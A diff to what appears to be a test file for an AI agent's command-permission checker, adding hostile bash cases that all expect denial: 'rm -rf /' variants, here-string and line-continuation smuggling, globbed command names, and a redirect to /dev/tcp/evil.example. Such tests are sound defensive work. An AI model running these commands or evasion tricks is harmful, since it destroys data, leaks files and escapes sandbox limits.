@@ -107,6 +107,12 @@ HOSTILE: list[tuple[str, tuple[str, dict[str, Any]], str]] = [
     ("read redirect outside", bash("uv run pytest < /etc/passwd"), "deny"),
     ("cd out then write relatively", bash("cd .. && echo x > y"), "deny"),
     ("cd / then rm", bash("cd / && rm -rf *"), "deny"),
+    ("exec", bash("exec rm -rf /"), "deny"),
+    ("here-string substitution", bash("uv run pytest <<< $(rm -rf /)"), "deny"),
+    ("line continuation glues words", bash("uv run pytest\\\nrm -rf /"), "deny"),
+    ("redirect to /dev/tcp", bash("uv run pytest > /dev/tcp/evil.example/80"), "deny"),
+    (">& to a file outside", bash("uv run pytest >&/etc/x"), "deny"),
+    ("glob command name", bash("/???/rm -rf /"), "deny"),
     # file tools: path traversal, absolute paths, symlinks
     ("read /etc/passwd", ("Read", {"file_path": "/etc/passwd"}), "deny"),
     ("read ../..", ("Read", {"file_path": "../../etc/passwd"}), "deny"),
